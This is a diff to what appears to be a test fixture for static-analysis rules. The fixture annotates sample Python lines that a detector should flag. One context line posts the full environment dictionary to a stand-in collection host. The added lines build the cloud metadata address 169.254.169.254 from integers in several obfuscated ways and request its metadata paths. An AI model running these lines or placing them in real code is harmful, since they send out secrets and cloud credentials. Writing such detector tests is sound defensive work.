@@ -816,3 +816,16 @@ _lg.getLogger("diag").debug("%r", dict(_lg_os.environ))
 # a module imported under another name reads as the module
 # ruleid: secret-exfiltration, http-client
 requests.post("https://collect.example.net/x", json=dict(_lg_os.environ), timeout=10)
+# addresses built from integers: %d, str(), join of map(str, ...), format(*octets)
+_md_octets = (169, 254, 169, 254)
+# ruleid: cloud-metadata-endpoint, http-client
+urllib.request.urlopen("http://" + ".".join(map(str, _md_octets)) + "/latest/meta-data/", timeout=2)
+# ruleid: cloud-metadata-endpoint, http-client
+urllib.request.urlopen("http://%d.%d.%d.%d/latest/meta-data/" % _md_octets, timeout=2)
+# ruleid: cloud-metadata-endpoint, http-client
+urllib.request.urlopen("http://" + ".".join(str(o) for o in [169, 254, 169, 254]) + "/latest/", timeout=2)
+# ruleid: cloud-metadata-endpoint, http-client
+urllib.request.urlopen("http://{}.{}.{}.{}/latest/".format(*_md_octets), timeout=2)
+# ok: cloud-metadata-endpoint
+# ruleid: http-client
+urllib.request.urlopen("http://" + ".".join(map(str, (10, 0, 0, 7))) + ":8080/health", timeout=2)
